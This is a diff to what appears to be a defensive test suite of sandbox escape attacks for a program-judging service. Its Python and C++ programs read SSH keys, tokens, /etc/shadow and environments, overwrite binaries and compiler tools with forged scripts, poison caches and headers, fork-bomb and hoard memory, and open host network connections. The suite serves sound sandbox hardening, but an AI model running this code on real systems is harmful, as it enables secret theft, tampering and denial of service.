@@ -28,7 +28,9 @@ COMPILER = "hostile compiler input"
 MECHANISMS = (NAMESPACE, FORGE, CACHE, KERNEL, COMPILER)
 ROLES = ("generator", "python", "cpp", "compile")
 
-COMPILE_LIMITS = replace(LIMITS, compile_seconds=3.0)
+COMPILE_LIMITS = replace(LIMITS, compile_seconds=2.0)
+QUICK_GENERATOR = replace(LIMITS, generator_seconds=1.0)  # for attacks that only end at their deadline
+SLOW_SOLUTION = replace(LIMITS, solution_seconds=3.0)  # time to build up what the attack hoards
 SCRIPT_666 = "#!/bin/sh\\necho 666\\n"  # what a forged binary does: answer 666
 
 
@@ -58,8 +60,9 @@ class Attack:
         source = self.render(world)
         if self.role == "generator":
             return Task(Program("python", source, entry="gen"), LEGIT_PY, {"n": 3}, seed=1)
-        language = "python" if self.role == "python" else "cpp"
-        return Task(None, Program(language, source), stdin="3\n1 2 3\n")
+        if self.role == "python":
+            return Task(None, _sorted_after(source, LEGIT_PY), stdin="3\n1 2 3\n")
+        return Task(None, Program("cpp", source), stdin="3\n1 2 3\n")
 
     def probe_task(self, world: World) -> Task | None:
         if self.probe is None:
@@ -69,6 +72,17 @@ class Attack:
     def render(self, world: World) -> str:
         prelude = PRELUDE if self.role in ("generator", "python") else ""
         return _render(prelude + self.source, world)
+
+
+def _sorted_after(source: str, other: Program) -> Program:
+    """The Python program ``source``, salted so that its key sorts after ``other``'s. The pool runs a
+    batch sorted by program key: the secret instance (a ``LEGIT_PY`` solution) then runs just before
+    the attack, in the same chunk, and the legit generator tasks after it."""
+    program, salt = Program("python", source), 0
+    while program.key <= other.key:
+        salt += 1
+        program = Program("python", f"{source}\n# order {salt}\n")
+    return program
 
 
 def _render(source: str, world: World) -> str:
@@ -193,7 +207,8 @@ def spray(payload=None, fds=range(256)):
 
 '''
 
-_SUM_CPP_MAIN = "int main() { long long n, s = 0, x; std::cin >> n; while (std::cin >> x) s += x; std::cout << s << std::endl; }\n"
+_SUM_CPP_MAIN = ("int main() { long long n, s = 0, x; if (scanf(\"%lld\", &n) != 1) return 1;"
+                 " while (scanf(\"%lld\", &x) == 1) s += x; printf(\"%lld\\n\", s); }\n")  # needs <cstdio>
 
 ATTACKS: list[Attack] = [
     # ---- 1. escaping the namespaces -------------------------------------------------------------
@@ -288,22 +303,23 @@ def gen(params):
     return "3\n1 2 3\n", {"loot": LOOT + [read($canary)]}
 '''),
     Attack("cpp-writes-host", NAMESPACE, "cpp", r'''
-#include <fstream>
-#include <iostream>
-#include <sstream>
-#include <string>
-#include <vector>
+#include <cstdio>
 int main() {
-    std::vector<std::string> targets = $targets_cpp;
-    for (auto& d : targets) std::ofstream(d + "/" + $marker) << "escaped";
-    std::ofstream($canary, std::ios::app) << "tampered";
-    for (const char* p : {$canary, $ssh_key, $hf_token}) {
-        std::ifstream f(p);
-        std::stringstream s;
-        s << f.rdbuf();
-        std::cout << s.str();
+    const char* targets[] = $targets_cpp;
+    char path[4096];
+    for (const char* d : targets) {
+        snprintf(path, sizeof path, "%s/%s", d, $marker);
+        if (FILE* f = fopen(path, "w")) fputs("escaped", f), fclose(f);
     }
-    std::cout << 6 << std::endl;
+    if (FILE* f = fopen($canary, "a")) fputs("tampered", f), fclose(f);
+    const char* secrets[] = {$canary, $ssh_key, $hf_token};
+    for (const char* p : secrets)
+        if (FILE* f = fopen(p, "r")) {
+            char buf[4096];
+            fwrite(buf, 1, fread(buf, 1, sizeof buf, f), stdout);
+            fclose(f);
+        }
+    puts("6");
 }
 '''),
     Attack("symlink-trap", NAMESPACE, "python", r'''
@@ -404,7 +420,7 @@ def gen(params):
     while True:  # "still working" frames, hoping to push its own deadline back forever
         spray(frame("S"))
         time.sleep(0.2)
-''', check=stopped_by_limit),
+''', check=stopped_by_limit, limits=QUICK_GENERATOR),
     Attack("poison-builtins", FORGE, "python", r'''
 import builtins
 real_print = builtins.print
@@ -529,30 +545,46 @@ for root in ("/tmp", os.getcwd(), "/proc/1/cwd", "/proc/1/root/tmp"):
 print(6)
 '''.replace("$SCRIPT_666", SCRIPT_666)),
     Attack("cpp-replace-binaries", FORGE, "cpp", r'''
-#include <filesystem>
-#include <fstream>
-#include <iostream>
-namespace fs = std::filesystem;
-int main() {
-    std::error_code ec;
-    fs::path self = fs::read_symlink("/proc/self/exe", ec);
-    for (fs::path root : {self.parent_path(), fs::path("/tmp"), fs::current_path(ec)}) {
-        for (auto it = fs::recursive_directory_iterator(root, fs::directory_options::skip_permission_denied, ec);
-             !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
-            if (!it->is_regular_file(ec)) continue;
-            fs::path p = it->path();
-            bool exec = (fs::status(p, ec).permissions() & fs::perms::owner_exec) != fs::perms::none;
-            fs::remove(p, ec);
-            std::ofstream(p) << (exec ? "$SCRIPT_666" : "1\n666\n");
-            fs::permissions(p, fs::perms::all, ec);
+#include <cstdio>
+#include <cstring>
+#include <dirent.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static void poison(const char* dir, int depth) {  // every file it can reach becomes a forged one
+    DIR* d = depth < 5 ? opendir(dir) : nullptr;
+    if (!d) return;
+    while (dirent* e = readdir(d)) {
+        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
+        char path[4096];
+        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
+        struct stat st;
+        if (lstat(path, &st) != 0) continue;
+        if (S_ISDIR(st.st_mode)) {
+            poison(path, depth + 1);
+            continue;
         }
+        bool exec = st.st_mode & S_IXUSR;
+        unlink(path);
+        if (FILE* f = fopen(path, "w")) fputs(exec ? "$SCRIPT_666" : "1\n666\n", f), fclose(f);
+        chmod(path, 0755);
     }
-''' .replace("$SCRIPT_666", SCRIPT_666) + "    " + _SUM_CPP_MAIN.split("{", 1)[1]),
+    closedir(d);
+}
+int main() {
+    char dir[4096] = {0};
+    if (readlink("/proc/self/exe", dir, sizeof dir - 1) > 0)
+        if (char* slash = strrchr(dir, '/'); slash && slash != dir) *slash = 0, poison(dir, 0);
+    poison("/tmp", 0);
+    if (getcwd(dir, sizeof dir)) poison(dir, 0);
+    long long n, s = 0, x;
+    if (scanf("%lld", &n) != 1) return 1;
+    while (scanf("%lld", &x) == 1) s += x;
+    printf("%lld\n", s);
+}
+'''.replace("$SCRIPT_666", SCRIPT_666)),
     Attack("cpp-constructor-daemon", FORGE, "cpp", r'''
 #include <csignal>
-#include <fstream>
-#include <iostream>
-#include <string>
+#include <cstdio>
 #include <sys/prctl.h>
 #include <unistd.h>
 __attribute__((constructor)) static void implant() {  // runs before main, leaves a daemon behind
@@ -562,8 +594,8 @@ __attribute__((constructor)) static void implant() {  // runs before main, leave
     prctl(PR_SET_NAME, $bg_name "-ctor");
     signal(SIGHUP, SIG_IGN);
     for (int i = 0; i < 200; i++) {
-        std::ofstream($canary, std::ios::app) << "tampered";
-        std::ofstream(std::string($home) + "/" + $marker) << "escaped";
+        if (FILE* f = fopen($canary, "a")) fputs("tampered", f), fclose(f);
+        if (FILE* f = fopen($home "/" $marker, "w")) fputs("escaped", f), fclose(f);
         usleep(100000);
     }
     _exit(0);
@@ -590,7 +622,7 @@ attempt(os.killpg, 0, signal.SIGSTOP)
 '''),
     Attack("cpp-signal-parent", FORGE, "cpp", r'''
 #include <csignal>
-#include <iostream>
+#include <cstdio>
 #include <unistd.h>
 int main() {
     kill(getppid(), SIGSTOP);
@@ -598,7 +630,7 @@ int main() {
     setsid();
     kill(-1, SIGKILL);
     kill(getppid(), SIGKILL);
-    std::cout << 6 << std::endl;
+    puts("6");
 }
 '''),
     Attack("gen-str-subclass", FORGE, "generator", r'''
@@ -662,14 +694,16 @@ print(repr(loot)[: 1 << 19])
     # ---- 3. cache poisoning ----------------------------------------------------------------------
     Attack("fake-compiler", CACHE, "python", r'''
 FAKE = '#!/bin/sh\nout=a.out\nwhile [ $$# -gt 0 ]; do [ "$$1" = -o ] && out=$$2; shift; done\nprintf "$SCRIPT_666" > "$$out"\nchmod 755 "$$out"\n'
-HEADER = "#include_next <iostream>\n#include <cstdio>\n#include <cstdlib>\nstatic int forged = (std::puts(\"666\"), std::exit(0), 0);\n"
+HEADER = ("#ifndef FORGED_ONCE\n#define FORGED_ONCE\n#include <stdio.h>\n#include <stdlib.h>\n"
+          "static int forged = (puts(\"666\"), exit(0), 0);\n#endif\n")
 dirs = ["/tmp", os.getcwd(), os.path.expanduser("~"), "/usr/local/bin"] + os.environ.get("PATH", "").split(":")
 for directory in dirs:
     for name in ("g++", "c++", "gcc", "cc1plus", "as", "ld", "collect2"):
         path = os.path.join(directory, name)
         attempt(lambda: open(path, "w").write(FAKE))
         attempt(os.chmod, path, 0o755)
-attempt(lambda: open("/tmp/iostream", "w").write(HEADER))
+for header in ("iostream", "cstdio", "stdio.h"):  # found first through CPATH: every compile forges
+    attempt(lambda: open(f"/tmp/{header}", "w").write(f"#include_next <{header}>\n" + HEADER))
 os.environ["PATH"] = "/tmp:" + os.environ.get("PATH", "")
 os.environ.update(COMPILER_PATH="/tmp", GCC_EXEC_PREFIX="/tmp/", CPATH="/tmp", CPLUS_INCLUDE_PATH="/tmp")
 print(6)
@@ -702,22 +736,20 @@ for directory in dirs:
 print(6)
 '''.replace("$SCRIPT_666", SCRIPT_666), fresh_cpp=True),
     Attack("constructor-cache-write", CACHE, "cpp", r'''
+#include <cstdio>
 #include <dirent.h>
-#include <fstream>
-#include <iostream>
-#include <string>
 #include <sys/stat.h>
-__attribute__((constructor)) static void poison() {
-    std::string dir = $cache;
-    if (DIR* d = opendir(dir.c_str())) {
+__attribute__((constructor)) static void poison() {  // runs before main: every cached binary forged
+    char path[4096];
+    if (DIR* d = opendir($cache)) {
         while (dirent* e = readdir(d)) {
-            std::string path = dir + "/" + e->d_name;
-            std::ofstream(path, std::ios::trunc) << "$SCRIPT_666";
-            chmod(path.c_str(), 0755);
+            snprintf(path, sizeof path, "%s/%s", $cache, e->d_name);
+            if (FILE* f = fopen(path, "w")) fputs("$SCRIPT_666", f), fclose(f);
+            chmod(path, 0755);
         }
         closedir(d);
     }
-    std::ofstream(dir + "/" + $marker) << "$SCRIPT_666";
+    if (FILE* f = fopen($cache "/" $marker, "w")) fputs("$SCRIPT_666", f), fclose(f);
 }
 '''.replace("$SCRIPT_666", SCRIPT_666) + _SUM_CPP_MAIN, fresh_cpp=True),
     Attack("ld-preload", CACHE, "generator", r'''
@@ -804,25 +836,26 @@ print(6)
 '''),
     Attack("network-cpp", KERNEL, "cpp", r'''
 #include <arpa/inet.h>
-#include <iostream>
+#include <cstdio>
 #include <netinet/in.h>
 #include <sys/socket.h>
 #include <unistd.h>
 int main() {
-    for (const char* address : $host_addrs_cpp) {
+    const char* addresses[] = $host_addrs_cpp;
+    for (const char* address : addresses) {
         sockaddr_in to{};
         to.sin_family = AF_INET;
         inet_pton(AF_INET, address, &to.sin_addr);
         to.sin_port = htons($tcp_port);
         int s = socket(AF_INET, SOCK_STREAM, 0);
-        if (connect(s, (sockaddr*)&to, sizeof to) == 0) std::cout << "ESCAPED! TCP to " << address << std::endl;
+        if (connect(s, (sockaddr*)&to, sizeof to) == 0) printf("ESCAPED! TCP to %s\n", address);
         close(s);
         to.sin_port = htons($udp_port);
         int u = socket(AF_INET, SOCK_DGRAM, 0);
         sendto(u, "escaped", 7, 0, (sockaddr*)&to, sizeof to);
         close(u);
     }
-    std::cout << 6 << std::endl;
+    puts("6");
 }
 '''),
     Attack("network-generator", KERNEL, "generator", r'''
@@ -854,9 +887,8 @@ while chunk := os.read(r, 64):
 print(reports * SIZE)
 ''', check=memory_held),
     Attack("memory-forks-cpp", KERNEL, "cpp", r'''
+#include <cstdio>
 #include <cstdlib>
-#include <cstring>
-#include <iostream>
 #include <unistd.h>
 int main() {
     const size_t size = 400ul << 20;
@@ -864,8 +896,12 @@ int main() {
     if (pipe(fds) != 0) return 1;
     for (int i = 0; i < 5; i++)
         if (fork() == 0) {
-            char* p = (char*)malloc(size);
-            if (p) { memset(p, 1, size); if (write(fds[1], "1", 1) != 1) _exit(1); usleep(500000); }
+            volatile char* p = (volatile char*)malloc(size);  // volatile: the stores cannot be optimised away
+            if (p) {
+                for (size_t i = 0; i < size; i += 4096) p[i] = 1;
+                if (write(fds[1], "1", 1) != 1) _exit(1);
+                usleep(500000);
+            }
             _exit(0);
         }
     close(fds[1]);
@@ -873,7 +909,7 @@ int main() {
     long reports = 0;
     ssize_t got;
     while ((got = read(fds[0], buf, sizeof buf)) > 0) reports += got;
-    std::cout << reports * (long)size << std::endl;
+    printf("%ld\n", reports * (long)size);
 }
 ''', check=memory_held),
     Attack("fork-bomb-generator", KERNEL, "generator", r'''
@@ -884,7 +920,7 @@ def gen(params):
             os.fork()
         except OSError:
             time.sleep(0.01)
-''', check=stopped),
+''', check=stopped, limits=QUICK_GENERATOR),
     Attack("thread-bomb", KERNEL, "python", r'''
 count = 0
 while count < 100000:
@@ -897,11 +933,11 @@ print(6)
 '''),
     Attack("huge-display", KERNEL, "generator", r'''
 def gen(params):
-    return "3\n1 2 3\n", "x" * (300 << 20)
+    return "3\n1 2 3\n", "x" * (256 << 20)
 ''', check=stopped_as_generator),
     Attack("huge-stdin", KERNEL, "generator", r'''
 def gen(params):
-    return "1\n" + "9" * (200 << 20), None
+    return "1\n" + "9" * (64 << 20), None
 ''', check=lambda o: (stopped_as_generator(o), stopped_by_limit(o))),
     Attack("deep-display", KERNEL, "generator", r'''
 def gen(params):
@@ -966,17 +1002,16 @@ for home in ("/root", "/home", $home):
 print(repr(loot)[: 1 << 19])
 '''),
     Attack("secret-files-cpp", KERNEL, "cpp", r'''
-#include <fstream>
-#include <iostream>
-#include <sstream>
+#include <cstdio>
 int main() {
-    for (const char* p : {$canary, $ssh_key, $hf_token, $repo "/setup.cfg", "/etc/shadow", "/proc/1/environ",
-                          "/proc/self/environ"}) {
-        std::ifstream f(p);
-        std::stringstream s;
-        s << f.rdbuf();
-        std::cout << s.str() << "\n";
-    }
+    const char* paths[] = {$canary, $ssh_key, $hf_token, $repo "/setup.cfg", "/etc/shadow", "/proc/1/environ",
+                           "/proc/self/environ"};
+    for (const char* p : paths)
+        if (FILE* f = fopen(p, "r")) {
+            char buf[1 << 14];
+            fwrite(buf, 1, fread(buf, 1, sizeof buf, f), stdout);
+            fclose(f);
+        }
 }
 '''),
     Attack("secret-generator", KERNEL, "generator", r'''
@@ -987,6 +1022,71 @@ LOOT["env"] = dict(os.environ)
 
 def gen(params):
     return "3\n1 2 3\n", LOOT
+'''),
+    Attack("memfd-hoard", KERNEL, "cpp", r'''
+#include <cstdio>
+#include <cstring>
+#include <sys/mman.h>
+#include <unistd.h>
+int main() {  // memfd pages are in no process's resident set: 40 x 48 x 1 MiB = 1920 MiB
+    static char block[1 << 20];
+    memset(block, 1, sizeof block);
+    int fds[2];
+    if (pipe(fds) != 0) return 1;
+    for (int i = 0; i < 40; i++)
+        if (fork() == 0) {
+            unsigned char held = 0;
+            for (int j = 0; j < 48; j++) {
+                int fd = memfd_create("hoard", 0);
+                if (fd < 0 || write(fd, block, sizeof block) != (ssize_t)sizeof block) break;
+                held++;
+            }
+            if (write(fds[1], &held, 1) != 1) _exit(1);
+            sleep(1);
+            _exit(0);
+        }
+    close(fds[1]);
+    long total = 0;
+    unsigned char held;
+    while (read(fds[0], &held, 1) == 1) total += held;
+    printf("%ld\n", total << 20);
+}
+''', check=memory_held, limits=SLOW_SOLUTION),
+    Attack("sysv-shm-hoard", KERNEL, "python", r'''
+IPC_PRIVATE, IPC_CREAT = 0, 0o1000
+libc.shmat.restype, libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
+libc.shmdt.argtypes = [ctypes.c_void_p]
+SIZE, held = 256 << 20, 0
+for _ in range(8):  # 2 GiB of segments, each attached only while it is filled: in no resident set
+    shm = libc.shmget(IPC_PRIVATE, SIZE, IPC_CREAT | 0o600)
+    address = libc.shmat(shm, None, 0) if shm >= 0 else None
+    if address in (None, ctypes.c_void_p(-1).value):
+        break
+    ctypes.memset(address, 1, SIZE)
+    libc.shmdt(address)
+    held += SIZE
+print(held, flush=True)
+time.sleep(0.5)
+''', check=memory_held, limits=SLOW_SOLUTION),
+    Attack("keyring-persistence", KERNEL, "python", r'''
+libc.syscall.restype = ctypes.c_long
+for keyring in (-4, -3, -2):  # the user, session and process keyrings: kernel state beyond the task?
+    libc.syscall(248, b"user", $marker.encode(), b"1\n666\n", 6, keyring)  # add_key
+print(6)
+''', probe=r'''
+libc.syscall.restype = ctypes.c_long
+found = []
+key = libc.syscall(249, b"user", $marker.encode(), None, 0)  # request_key: search our keyrings
+if key >= 0:
+    value = ctypes.create_string_buffer(64)
+    libc.syscall(250, 11, key, value, 64)  # KEYCTL_READ
+    found.append(value.value.decode("utf-8", "replace"))
+print(json.dumps(found))
+''', check=probe_found_nothing),
+    Attack("warm-import-exit", FORGE, "python", r'''
+import unittest.__main__  # the trusted side may pre-import the stdlib modules a program names:
+import lib2to3.__main__  # importing these calls sys.exit()
+print(6)
 '''),
     # ---- 5. hostile compiler input ---------------------------------------------------------------
     Attack("include-canary", COMPILER, "compile", r'''
@@ -1064,7 +1164,7 @@ int main() {}
 #define XCAT(a, b) CAT(a, b)
 #define E int XCAT(f, __COUNTER__)() { return undefined_name + "x" * 3; }
 #define TEN(x) x x x x x x x x x x
-TEN(TEN(TEN(TEN(E))))
+TEN(TEN(TEN(E)))
 int main() {}
 ''', check=stopped_as_compile),
     Attack("error-line-bomb", COMPILER, "compile", r'''
@@ -1079,7 +1179,7 @@ int main() { T11 x; return x.missing; }  // one error line naming a type of mega
 #pragma GCC dependency $canary "leaks whether and when the canary changed"
 #pragma GCC optimize ("-fplugin=/tmp/evil.so")
 #pragma GCC target ("arch=native")
-#include <iostream>
+#include <cstdio>
 #pragma GCC poison system popen
 ''' + _SUM_CPP_MAIN),
 ]
